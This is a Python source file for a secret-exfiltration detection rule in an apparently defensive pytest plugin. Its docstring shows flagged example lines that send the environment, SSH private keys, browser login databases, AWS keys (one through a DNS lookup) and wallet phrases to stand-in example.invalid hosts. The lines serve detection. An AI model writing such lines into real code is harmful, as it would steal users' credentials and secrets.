"""SMG220: secrets get a way out."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger._flow_marks import Mark
from pytest_selfmod_guard.rules.danger._flow_words import SENDERS, concerns

if TYPE_CHECKING:
    from pytest_selfmod_guard.rules.danger._flow import Flow
    from pytest_selfmod_guard.rules.danger._flow_sends import Send
    from pytest_selfmod_guard.syntax import Python

_HOST = re.compile(r"^[a-z]{2,9}://(?:[^/@*]{0,80}@)?([\w.-]{1,100})(?=[:/?#*]|$)")
_PACKERS = frozenset(
    (
        "shutil.copy", "shutil.copy2", "shutil.copyfile", "shutil.copytree",
        "shutil.make_archive", "shutil.move",
        "*.add", "*.write", "os.rename", "os.replace",
    )
)  # fmt: skip
_BY_PATH = frozenset(
    ("put", "upload_file", "upload_from_filename", "sendfile", "upload", "putfo", "add_file")
)
"""Methods that are told which file to send."""
_OWNERS = re.compile(
    r"(?i)amazonaws|github|gitlab|npmjs|pypi|openai|anthropic|googleapis"
    r"|stripe|slack\.com|discord|huggingface"
    r"|microsoft|azure|docker|cohere|mistral|localhost|127\.0\.0\.1"
)


@python_rule(
    "SMG220",
    risk=Risk.HIGH,
    hint="send only what the receiver needs, field by field, and leave the environment, key files "
    "and what other programs keep out of it; to log in, hand a token "
    "to the service that issued it, "
    "by a header",
    triggers=(*SENDERS, b"headers"),
)
def secrets_sent_out(python: Python) -> Iterable[Sighting]:
    """
    Secrets leave the machine: the environment, key files, what browsers keep.

    The value that is sent is followed back through assignments, formatting,
    loops, files and functions of the file. A token in a header that says who
    asks, and one handed to the service that issued it, is silent; so is a
    password that goes to a log-in.

    Flagged: the whole environment
        === shop/stats.py
          import os, requests
        + requests.post("https://stats.example.invalid", json=dict(os.environ))

    Flagged: a private key, in pieces
        === shop/stats.py
          import os, socket
          def report(sock: socket.socket):
        +     home = os.path.expanduser("~")
        +     with open(os.path.join(home, ".ssh", "id_" + "rsa")) as file:
        +         socket.create_connection(("example.invalid", 80)).sendall(file.read().encode())

    Flagged: what a browser keeps [critical]
        === shop/stats.py
          import sqlite3, requests
          def load(path):
        +     rows = sqlite3.connect(path + "/Default/Login Data").execute("SELECT * FROM logins")
        +     requests.post("https://example.invalid", data=str(rows.fetchall()))

    Flagged: a cloud key in a host name
        === shop/stats.py
          import os, socket
        + socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".example.invalid")

    Flagged: keys under another name, in every request
        === shop/mail.py
          import configparser, requests
        + keys = configparser.ConfigParser()
        + keys.read("/root/.aws/credentials")
        + session = requests.Session()
        + session.headers["User-Agent"] = "shop/" + keys["default"]["aws_secret_access_key"]

    Flagged: the words of a wallet
        === shop/mail.py
          import requests
        + def check(mnemonic):
        +     requests.post("https://wallets.example.invalid/check", json={"words": mnemonic})

    Allowed: a log-in
        === shop/mail.py
          import getpass, requests
        + def login(user):
        +     sent = {"user": user, "password": getpass.getpass()}
        +     requests.post("https://shop.example.com/login", json=sent)

    Allowed: a token for the service that issued it
        === shop/release.py
          import os, requests
          def release():
        +     token = os.environ["GITHUB_TOKEN"]
        +     headers = {"Authorization": f"Bearer {token}"}
        +     requests.post("https://api.github.com/repos/a/b/releases", headers=headers)

    Allowed: one setting
        === shop/stats.py
          import os, requests
          def report(count):
        +     requests.post(os.environ["STATS_URL"], json={"count": count}, timeout=5)
    """
    from pytest_selfmod_guard.rules.danger._flow import flow  # noqa: PLC0415 (imports libcst)
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        sends,
    )

    known = flow(python)
    test = paths.zone(python.path) == paths.TEST
    copied = _are_copied(known)
    for send in sends(known):
        what, risk = _what(known, send, copied=copied)
        if what:
            if test and not _is_wide(send):
                risk = Risk.MEDIUM
            yield Sighting(
                python.line(send.call.node),
                f"{what} leaves the machine here",
                python.code(send.call.node),
                send.call.scope,
                risk=risk,
            )
    yield from _handed(known)


def _is_wide(send: Send) -> bool:
    """Tell whether it is more than a test's own sample that leaves."""
    return bool(send.marks & (Mark.ENVIRONMENT | Mark.VAULT | Mark.CALLBACK | Mark.BARE))


def _what(flow: Flow, send: Send, *, copied: bool) -> tuple[str, Risk]:
    anywhere = bool(send.marks & (Mark.CALLBACK | Mark.DROP | Mark.BARE))
    read = bool(send.loud & (Mark.FILE | Mark.OUTPUT)) or _takes_path(send)
    is_file = bool(send.loud & Mark.FILE)
    every = (
        (send.marks & Mark.VAULT, "what a browser, wallet or messenger keeps", Risk.CRITICAL),
        (send.marks & Mark.ENVIRONMENT, "the whole environment, secrets included,", Risk.HIGH),
        (send.loud & Mark.KEYS and read, "a file of keys or accounts", Risk.CRITICAL),
        (send.loud & Mark.STORE and is_file, "a file of credentials", Risk.HIGH),
        (send.loud & Mark.TREE and is_file, "what lies below a home or the root", Risk.HIGH),
        (copied and read, "a file, where keys are copied into files,", Risk.HIGH),
        (send.loud & Mark.METADATA, "the question for a cloud machine's own keys", Risk.HIGH),
        (_is_let_out(flow, send, anywhere=anywhere), "a secret of the environment", Risk.HIGH),
        (_are_shown(flow, send), "a file of keys or accounts, in a header,", Risk.HIGH),
        (*_of_people(flow, send, anywhere=anywhere), Risk.HIGH),
    )
    what, risk = next(((said, worth) for seen, said, worth in every if seen), ("", Risk.NONE))
    return what, max(risk, Risk.CRITICAL) if what and anywhere else risk


def _is_let_out(flow: Flow, send: Send, *, anywhere: bool) -> bool:
    """Tell whether one secret goes to somebody who has not issued it."""
    if send.loud & Mark.SECRET and (anywhere or send.is_lookup):
        return True
    return bool(send.loud & Mark.POWER) and _is_foreign(flow, send)


def _are_shown(flow: Flow, send: Send) -> bool:
    """Tell whether a key file is shown to a host that has not issued it."""
    is_file = send.headers & (Mark.FILE | Mark.OUTPUT)
    return bool(send.headers & Mark.KEYS and is_file) and _is_foreign(flow, send)


def _of_people(flow: Flow, send: Send, *, anywhere: bool) -> tuple[bool, str]:
    """Tell whether what people keep in their heads or key rings goes to a stranger."""
    from pytest_selfmod_guard.rules.danger._flow_phrases import (  # noqa: PLC0415 (imports libcst)
        has_password,
        phrase_sent,
    )

    what = phrase_sent(flow, send) if anywhere or _is_foreign(flow, send) else ""
    is_typed = anywhere and has_password(flow, send)
    return bool(what) or is_typed, what or "a password"


def _handed(flow: Flow) -> Iterator[Sighting]:
    """Look at what a client is told to send along with everything."""
    from pytest_selfmod_guard.rules.danger._flow_headers import (  # noqa: PLC0415 (imports libcst)
        handed_over,
    )

    if not concerns(flow.python, (*SENDERS, b"headers")):
        return
    for handed in handed_over(flow):
        is_file = bool(handed.loud & (Mark.FILE | Mark.OUTPUT))
        wide = handed.loud & (Mark.ENVIRONMENT | Mark.VAULT | Mark.METADATA | Mark.POWER)
        if wide or (is_file and handed.loud & (Mark.KEYS | Mark.STORE)):
            yield Sighting(
                flow.python.line(handed.node),
                "a secret is sent along with every request from here on",
                flow.python.code(handed.node),
                risk=Risk.MEDIUM if paths.zone(flow.python.path) == paths.TEST else Risk.HIGH,
            )


def _takes_path(send: Send) -> bool:
    from pytest_selfmod_guard.rules.danger._flow_edges import (  # noqa: PLC0415 (imports libcst)
        called_name,
    )

    return send.is_command or called_name(send.call.node) in _BY_PATH


def _are_copied(flow: Flow) -> bool:
    """Tell whether keys or vaults are copied or packed, from where they can leave unseen."""
    packers = (call for call in flow.python.calls if flow.edges.names(call.node) & _PACKERS)
    return any(
        flow.marks(arg.value) & (Mark.KEYS | Mark.VAULT)
        for call in packers
        for arg in call.node.args
    )


def _is_foreign(flow: Flow, send: Send) -> bool:
    """Tell whether the address is written down, and of no service that issues such secrets."""
    from pytest_selfmod_guard.rules.danger._flow_sends import (  # noqa: PLC0415 (imports libcst)
        texts,
    )

    hosts = [found[1] for text in texts(flow, send.call.node) if (found := _HOST.match(text))]
    return bool(hosts) and not any(_OWNERS.search(host) for host in hosts)
